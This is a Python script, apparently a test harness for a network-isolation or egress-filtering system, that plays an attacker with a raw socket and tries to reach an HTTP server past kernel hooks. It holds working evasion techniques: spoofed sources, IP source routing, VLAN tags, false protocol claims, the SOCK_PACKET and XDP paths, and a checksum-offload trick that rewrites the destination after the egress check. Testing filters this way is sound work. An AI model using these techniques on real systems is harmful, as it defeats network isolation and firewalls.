"""A program with CAP_NET_RAW that speaks its own TCP over packet sockets, past the kernel's IP stack and every hook in
it: handshake, one HTTP GET, and it reads the answer. It stands for any attacker with a raw socket.

Its source address is one that the kernel does not own, so that the kernel does not reset a connection it never opened.
Prints the same one line of JSON as socket_client.py.
"""

import argparse
import errno
import ipaddress
import json
import random
import socket
import struct
import time

from xdp_transmit import XdpTransmit, send_to

ETH_P_ALL = 0x0003
SOL_PACKET, PACKET_VNET_HDR, PACKET_QDISC_BYPASS, SOCK_PACKET = 263, 15, 20, 10
VIRTIO_NET_HDR_F_NEEDS_CSUM = 1
SYN, RST, PSH, ACK = 0x02, 0x04, 0x08, 0x10
REQUEST = b"GET / HTTP/1.0\r\n\r\n"


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    """How a TCP segment becomes a frame: this is what the attempts differ in."""

    def __init__(self, options: argparse.Namespace):
        self.options = options
        self.source = ipaddress.ip_address(options.source)
        self.target = ipaddress.ip_address(options.address)
        self.version = self.target.version

    def ethertype(self) -> int:
        return 0x0800 if self.version == 4 else 0x86DD

    def packet(self, segment: bytes) -> bytes:
        if self.version == 6:
            return self.packet6(segment)
        route = b""
        first_hop = self.target
        if self.options.source_route_via:
            # RFC 791: loose source route, the final destination in the option, padded to a multiple of four.
            first_hop = ipaddress.ip_address(self.options.source_route_via)
            nops = b"\x01" * self.options.nops
            route = nops + bytes([131, 7, 4]) + self.target.packed
            route += b"\0" * (-len(route) % 4)
        words = 5 + len(route) // 4
        head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(segment), 1, 0, 64, 6, 0)
        head += self.source.packed + first_hop.packed + route
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + segment

    def packet6(self, segment: bytes) -> bytes:
        first_hop, next_header, route = self.target, 6, b""
        if self.options.source_route_via:
            first_hop, next_header = ipaddress.ip_address(self.options.source_route_via), 43
            route = struct.pack("!BBBBBBH", 6, 4, 4, 1, 1, 0, 0) + self.target.packed + first_hop.packed
        head = struct.pack("!IHBB", 6 << 28, len(route) + len(segment), next_header, 64)
        return head + self.source.packed + first_hop.packed + route + segment

    def frame(self, segment: bytes) -> bytes:
        macs = bytes.fromhex((self.options.gateway_mac + self.options.mac).replace(":", ""))
        tags = b"".join(struct.pack("!HH", tag, 0) for tag in self.options.tag)
        return macs + tags + struct.pack("!H", self.ethertype()) + self.packet(segment)


def late_address(frame: bytes) -> bytes:
    """The frame with a virtio header that asks for a checksum in the place of the IPv4 destination's second half.

    The half is chosen so that the checksum over it and the rest is the real one. Where the interface has no general
    checksum offload, the kernel writes it after the egress hook has looked.
    """
    at = 14 + 18
    real = struct.unpack("!H", frame[at : at + 2])[0]
    rest = ~checksum(frame[at + 2 :]) & 0xFFFF
    half = ((~real & 0xFFFF) - rest) % 0xFFFF
    header = struct.pack("=BBHHHH", VIRTIO_NET_HDR_F_NEEDS_CSUM, 0, 0, 0, at, 0)
    return header + frame[:at] + struct.pack("!H", half) + frame[at + 2 :]


def sender(options: argparse.Namespace, wire: Wire):
    """Returns a function that puts one TCP segment on the wire."""
    device = options.into or options.device
    gateway = bytes.fromhex(options.gateway_mac.replace(":", ""))
    if options.via == "xdp":
        xdp = XdpTransmit(device)
        return lambda segment: xdp.send(wire.frame(segment))
    if options.via == "ip":
        # A raw IP socket with the program's own header: it does pass the kernel's stack.
        family = socket.AF_INET if wire.version == 4 else socket.AF_INET6
        sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        return lambda segment: sock.sendto(wire.packet(segment), (options.address, 0))
    # What the kernel is told of the frame's protocol: it believes it, whatever the frame itself says.
    claimed = options.claim if options.claim is not None else wire.ethertype()
    if options.via == "obsolete":
        # SOCK_PACKET of Linux 2.0, still there. sockaddr_pkt: 14 bytes of device name, then the protocol.
        sock = socket.socket(socket.AF_PACKET, SOCK_PACKET, 0)
        name = struct.pack("=H14s", socket.AF_PACKET, device.encode()) + struct.pack("!H", claimed)
        return lambda segment: send_to(sock, wire.frame(segment), name)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM if options.via == "dgram" else socket.SOCK_RAW, 0)
    if options.bypass:
        sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    if options.late_address:
        sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        return lambda segment: sock.sendto(late_address(wire.frame(segment)), (device, claimed, 0, 0, gateway))
    build = wire.packet if options.via == "dgram" else wire.frame
    return lambda segment: sock.sendto(build(segment), (device, claimed, 0, 0, gateway))


def tcp(wire: Wire, port: int, sport: int, seq: int, ack: int, flags: int, data: bytes = b"") -> bytes:
    head = struct.pack("!HHIIBBHHH", sport, port, seq, ack, 5 << 4, flags, 65535, 0, 0)
    length = len(head) + len(data)
    pseudo = wire.source.packed + wire.target.packed + struct.pack("!II", length, 6)
    return head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:] + data


def segment_for(sport: int, frame: bytes):
    """(flags, seq, data) of a TCP segment to our port, or None."""
    ethertype = struct.unpack("!H", frame[12:14])[0]
    if ethertype == 0x0800 and frame[23] == 6:
        start, end = 14 + (frame[14] & 15) * 4, 14 + struct.unpack("!H", frame[16:18])[0]
    elif ethertype == 0x86DD and frame[20] == 6:
        start, end = 54, 54 + struct.unpack("!H", frame[18:20])[0]
    else:
        return None
    head = frame[start:end]
    if len(head) < 20 or struct.unpack("!H", head[2:4])[0] != sport:
        return None
    return head[13], struct.unpack("!I", head[4:8])[0], head[(head[12] >> 4) * 4 :]


def attempt(options: argparse.Namespace) -> dict:
    listen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    listen.bind((options.device, ETH_P_ALL))
    wire = Wire(options)
    send = sender(options, wire)
    port, sport, seq = options.port, random.randrange(20000, 30000), random.randrange(1 << 31)

    def receive(deadline: float):
        while (left := deadline - time.monotonic()) > 0:
            listen.settimeout(left)
            try:
                frame, (_, _, direction, _, _) = listen.recvfrom(65535)
            except TimeoutError:
                return None
            if direction != socket.PACKET_OUTGOING and (found := segment_for(sport, frame)):
                return found
        return None

    deadline = time.monotonic() + options.wait
    send(tcp(wire, port, sport, seq, 0, SYN))
    answer = receive(deadline)
    if answer is None:
        return {"outcome": "silent"}
    if answer[0] & RST:
        return {"outcome": "refused", "code": "RST"}
    ack = (answer[1] + 1) % (1 << 32)
    send(tcp(wire, port, sport, seq + 1, ack, ACK | PSH, REQUEST))
    body = b""
    while b"\r\n\r\n" not in body and (answer := receive(deadline)):
        body += answer[2]
    return {"outcome": "reached", "body": body.decode()} if body else {"outcome": "silent"}


def parse() -> argparse.Namespace:
    number = lambda text: int(text, 0)
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--device", default="eth0")
    parser.add_argument("--into", help="send into this interface and listen on --device")
    parser.add_argument("--source", required=True)
    parser.add_argument("--mac", required=True)
    parser.add_argument("--gateway-mac", required=True)
    parser.add_argument("--via", choices=["raw", "dgram", "obsolete", "ip", "xdp"], default="raw")
    parser.add_argument("--bypass", action="store_true")
    parser.add_argument("--claim", type=number)
    parser.add_argument("--late-address", action="store_true")
    parser.add_argument("--tag", type=number, action="append", default=[])
    parser.add_argument("--source-route-via")
    parser.add_argument("--nops", type=int, default=0)
    parser.add_argument("--wait", type=float, default=0.5)
    return parser.parse_args()


if __name__ == "__main__":
    try:
        print(json.dumps(attempt(parse())))
    except OSError as error:
        print(json.dumps({"outcome": "refused", "code": errno.errorcode.get(error.errno or 0, "?")}))
